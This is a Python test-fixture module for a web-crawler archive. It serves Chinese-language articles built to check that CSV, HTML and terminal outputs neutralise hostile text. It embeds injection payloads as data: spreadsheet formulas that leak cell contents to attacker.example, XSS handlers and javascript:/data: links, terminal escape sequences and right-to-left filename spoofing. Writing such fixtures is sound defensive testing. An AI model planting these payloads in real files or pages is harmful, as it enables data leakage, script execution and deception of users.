"""Article text hostile to whoever reads the archive, and the fault site's 不可信内容 section
that serves it (`HostileText`).

A site's text reaches a spreadsheet (CSV exports), a browser (the HTML report, datasette)
and a terminal (`show`, `diff`, tables). These stories carry what each of them would act on:
formulas (=, +, -, @, tab, CR first), HTML and script, `javascript:`/`data:`/`vbscript:`
links in the body and the 附件 block, terminal escape sequences (ESC, the one-character
CSI U+009B, DEL), OSC 8 hyperlinks, rich markup and bidirectional overrides. A crawl archives
them like any article; every surface that shows them must leave them inert.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from replica.faults.handler import static
from replica.faults.lists import list_html
from replica.faults.pages import HOSTILE, Doc, article_html, attr, esc
from replica.faults.site import FaultSite
from replica.faults.stories import docid
from replica.faults.truth import FaultCase, HostileArticle

ATTACKER = "http://attacker.example/"

# What the page's scripts would do if a surface let them run: mark the document, where a
# browser test can see it.
PWNED = "document.documentElement.setAttribute('data-pwned','{}')"


@dataclass(frozen=True)
class HostileStory:
    """One hostile article: its fields as published, what it serves, what is archived."""

    case: str
    day: int
    title: str
    source: str
    paragraphs: tuple[str, ...]
    """Body paragraphs served as text (escaped: markup in them stays text)."""
    attachment_names: tuple[str, ...] = ()
    """Link texts of the PDFs it serves beside itself, as served."""
    stored_names: tuple[str, ...] = ()
    """The same names as the archive keeps them (whitespace at the ends removed)."""
    refused_links: tuple[tuple[str, str], ...] = ()
    """(href, link text) of 附件 links a crawler must never fetch nor keep as a file."""
    body_markup: str = ""
    """Raw HTML appended to the body: live links and handlers, as a hostile site writes."""
    body_markup_text: str = ""
    """What a reader sees of body_markup: the body's last paragraph."""
    description: str = ""
    expected: str = ""

    @property
    def body(self) -> tuple[str, ...]:
        """The body's paragraphs as a reader sees them."""
        return self.paragraphs + ((self.body_markup_text,) if self.body_markup_text else ())


def _pwned(where: str) -> str:
    return PWNED.format(where)


STORIES: tuple[HostileStory, ...] = (
    HostileStory(
        case="hostile_formulas",
        day=8,
        title='=HYPERLINK("http://attacker.example/?leak="&A1,"中铝股份2026年工作会议")',
        source="@SUM(1+1)*cmd('/C calc')!A0",
        paragraphs=(
            "-2+3+cmd('/C calc')!A0",
            "+中铝股份召开2026年工作会议，部署全年重点任务。",
            "=1+1",
        ),
        attachment_names=(
            '=HYPERLINK("http://attacker.example/","附件").pdf',
            "+1+1 名单.pdf",
            "-1+1 名单.pdf",
            "@SUM(A1:A9) 名单.pdf",
            "\t=1+1 名单.pdf",
            "\r=1+1 名单.pdf",
        ),
        stored_names=(
            '=HYPERLINK("http://attacker.example/","附件").pdf',
            "+1+1 名单.pdf",
            "-1+1 名单.pdf",
            "@SUM(A1:A9) 名单.pdf",
            "=1+1 名单.pdf",
            "=1+1 名单.pdf",
        ),
        description="title, 来源, first paragraph and attachment names that start with "
        "= + - @ (and tab or CR before =): formulas in a spreadsheet",
        expected="archived as published; CSV cells get a leading apostrophe, JSON Lines "
        "and Parquet keep the text",
    ),
    HostileStory(
        case="hostile_markup",
        day=8,
        title=f'<img src=x onerror="{_pwned("title")}">中铝股份<script>{_pwned("script")}'
        "</script>公告",
        source=f'<a href="javascript:{_pwned("source")}">党委宣传部</a>',
        paragraphs=(f'中铝股份发布公告<svg onload="{_pwned("svg")}">，详见附件。',),
        attachment_names=('<img src=x onerror="alert(1)">名单.pdf',),
        stored_names=('<img src=x onerror="alert(1)">名单.pdf',),
        refused_links=(
            (f"javascript:{_pwned('attachment')}", "恶意附件.pdf"),
            ("data:application/pdf;base64,JVBERi0xLjQK", "数据附件.pdf"),
            ("vbscript:msgbox(1)", "脚本附件.pdf"),
        ),
        body_markup=(
            f'<p>点击<a href="javascript:{_pwned("href")}">此处</a>查看，或打开'
            '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">数据链接</a>'
            f'。<img src="" onerror="{_pwned("img")}"></p>'
        ),
        body_markup_text="点击此处查看，或打开数据链接。",
        description="HTML and script in the title and 来源 (as text), live javascript:/data: "
        "links and an onerror handler in the body, javascript:/data:/vbscript: 附件 links",
        expected="archived with the markup as text; the script links never fetched nor kept; "
        "the report escapes the text and links only http(s)",
    ),
    HostileStory(
        case="hostile_terminal",
        day=8,
        title="中铝股份\x1b[2J\x1b[1;31m紧急通知\x1b[0m "
        f"\x1b]8;;{ATTACKER}\x1b\\点击\x1b]8;;\x1b\\ [link={ATTACKER}]详情[/link]",
        source="\u202e部传宣委党",
        paragraphs=(
            "第一段\x1b[1A\x1b[2K伪造的上一行",
            "C1控制符\u009b31m红色",
            "双向文本\u202eexe.fdp\u202c结束",
            "删除符\x7f结束",
        ),
        attachment_names=("\x1b[31m红色附件.pdf", "报告\u202efdp.exe"),
        stored_names=("\x1b[31m红色附件.pdf", "报告\u202efdp.exe"),
        description="ESC sequences (clear screen, colours, cursor up, an OSC 8 hyperlink), "
        "U+009B, DEL, rich markup and right-to-left overrides in the title, 来源, body and "
        "attachment names",
        expected="archived as published; shown escaped (\\u001b, \\u202e) on a terminal, "
        "rich markup shown as text",
    ),
)

_C0 = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


def as_references(page: str) -> str:
    """C0 control characters as numeric character references (&#27;): raw, the crawler
    drops them as it decodes a page; as references they reach the parsed text."""
    return _C0.sub(lambda match: f"&#{ord(match.group())};", page)


class HostileText(FaultSite):
    """The 不可信内容 section: its list and articles, and what the archive must hold of them."""

    def _build_hostile_text(self) -> None:
        """A section of articles whose text is hostile to the archive's readers (a
        spreadsheet, a browser, a terminal): STORIES, listed in 不可信内容."""
        items = []
        for k, story in enumerate(STORIES, start=41):
            number = docid(story.day, k)
            d = Doc(
                path=f"/{HOSTILE}/202602/t202602{story.day:02d}_{number}.html",
                docid=number,
                section=HOSTILE,
                title=story.title,
                source=story.source,
                published=f"2026-02-{story.day:02d}",
                created=f"2026-02-{story.day:02d} 10:{k:02d}:00",
                paragraphs=story.paragraphs,
            )
            files = [
                self._add_pdf(d, i, n, "不可信内容") for i, n in enumerate(story.attachment_names)
            ]
            links = [(f"./{href}", esc(truth.name)) for href, truth in files]
            links += [(href, esc(text)) for href, text in story.refused_links]
            block = "".join(
                f'<li><a href="{attr(href)}" target="_blank">{markup}</a></li>'
                for href, markup in links
            )
            body = "\n".join(f"<p>{esc(p)}</p>" for p in d.paragraphs) + story.body_markup
            page = article_html(d, body=body).replace(
                '<span class="fj-label">附件：</span>',
                f'<span class="fj-label">附件：</span><ul>{block}</ul>',
            )
            data = as_references(page).encode("utf-8")
            self._routes[d.path] = (story.case, static(200, "text/html; charset=utf-8", data))
            items.append((f"./{d.path.removeprefix(f'/{HOSTILE}/')}", d.title, d.published))
            self.cases[story.case] = FaultCase(
                story.case,
                d.path,
                story.description,
                story.expected,
                related=tuple(truth.url_path for _href, truth in files),
            )
            self.hostile_articles[story.case] = HostileArticle(
                url_path=d.path,
                title=story.title,
                source=story.source,
                published=d.published,
                paragraphs=story.body,
                attachments=tuple(
                    (truth.url_path, name)
                    for (_href, truth), name in zip(files, story.stored_names, strict=True)
                ),
                refused_hrefs=tuple(href for href, _text in story.refused_links),
            )
        listing = as_references(list_html(HOSTILE, items, ""))
        self._routes[f"/{HOSTILE}/"] = (
            None,
            static(200, "text/html; charset=utf-8", listing.encode("utf-8")),
        )
